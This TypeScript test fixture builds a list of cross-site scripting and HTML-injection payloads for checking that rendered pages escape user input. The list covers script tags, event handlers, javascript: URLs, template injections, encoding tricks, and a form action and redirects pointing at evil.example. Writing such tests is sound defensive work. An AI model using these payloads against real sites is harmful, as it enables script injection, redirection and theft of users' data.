/** Hostile texts for the tests of everything that ends in a page. */
const templates: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)//",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  "`onmouseover=alert(1)`",
  "javascript:alert(1)",
  "<a href=javascript:alert(1)>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<base href=https://evil.example/>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<style>@import 'https://evil.example'</style>",
  "</style><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)",
  "&amp;lt;b&amp;gt;",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form action=https://evil.example><button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<xss style=animation-name:x onanimationstart=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= 7*7 %>",
  "\u2028<script>alert(1)</script>\u2029",
  "\uFEFF<script>alert(1)</script>",
  "\u202E<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "\\u003cscript\\u003e",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "<script\0>alert(1)</script>",
  "\ud800<b>",
  "$&$1$`$'$$",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<",
  ">",
  '"',
  "'",
  "&",
]

/** Each of them alone, doubled, in capitals and inside another one. */
export const hostileTexts: ReadonlyArray<string> = templates.flatMap((text) => [
  text,
  text + text,
  text.toUpperCase(),
  `x${text}<b title="${text}">`,
])

/** All of them in as few texts as fields of this length allow, because many fields of many pages would take too long. */
export const hostileBatches = (maximumLength: number): ReadonlyArray<string> => {
  const batches: Array<string> = []
  for (const text of hostileTexts) {
    const longer = `${batches.at(-1)} ${text}`
    if (batches.length > 0 && longer.length <= maximumLength) batches[batches.length - 1] = longer
    else batches.push(text)
  }
  return batches
}
